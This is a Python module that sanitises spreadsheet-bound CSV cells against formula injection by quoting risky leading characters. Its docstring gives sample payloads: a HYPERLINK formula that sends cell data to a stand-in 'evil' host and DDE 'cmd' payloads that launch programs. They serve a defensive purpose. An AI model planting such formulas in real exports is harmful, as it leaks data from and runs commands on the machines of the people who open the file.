"""CSV cells that a spreadsheet shows as text, never runs as a formula.

Every CSV that Inspect writes for people to open in Excel, LibreOffice or Google Sheets goes
through here (the history export today, a batch export tomorrow), so the rule lives in one place.

The threat: a file name or comment such as ``=HYPERLINK("http://evil/?"&A1,"open")``,
``+cmd|' /C calc'!A0``, ``@SUM(1+1)`` or ``-2+3+cmd|...`` becomes a live formula when the CSV is
opened ("CSV injection"). The rule is OWASP's: a *text* cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return gets a single quote ``'`` in front, which spreadsheets read as
"this is text" and which a person reading the cell recognises. Numbers are left alone, so a
negative score stays a number a spreadsheet can sum. Quoting of commas, quotes and line breaks is
the :mod:`csv` module's job.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

#: First characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_START: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` ready for a CSV cell: text that could start a formula gets a leading ``'``.

    ``None`` becomes an empty cell; ints, floats and bools are returned unchanged (they are data,
    not text a person typed); anything else is written as its ``str``, with its carriage returns
    turned into line feeds.
    """
    if value is None:
        return ""
    if isinstance(value, (bool, int, float)):
        return value
    text = str(value)
    if text.startswith(FORMULA_START):
        text = "'" + text
    # The csv module quotes a cell only for its own line terminator ("\n" here), so a bare "\r"
    # would go out unquoted and split the row for every reader: write it as the line break it is.
    return text.replace("\r\n", "\n").replace("\r", "\n")


def safe_row(row: Mapping[str, Any] | Sequence[Any], fieldnames: Sequence[str]) -> list[Any]:
    """One row's cells in ``fieldnames`` order (a mapping) or as given (a sequence), made safe."""
    values = [row.get(name) for name in fieldnames] if isinstance(row, Mapping) else list(row)
    return [safe_cell(v) for v in values]


def write_rows(out: TextIO, fieldnames: Sequence[str], rows: Iterable[Mapping[str, Any] | Sequence[Any]]) -> None:
    """Write a header and ``rows`` (mappings keyed by field name, or sequences) to ``out``."""
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([safe_cell(name) for name in fieldnames])
    for row in rows:
        writer.writerow(safe_row(row, fieldnames))


def csv_text(fieldnames: Sequence[str], rows: Iterable[Mapping[str, Any] | Sequence[Any]]) -> str:
    """The CSV text of :func:`write_rows`."""
    buf = io.StringIO()
    write_rows(buf, fieldnames, rows)
    return buf.getvalue()
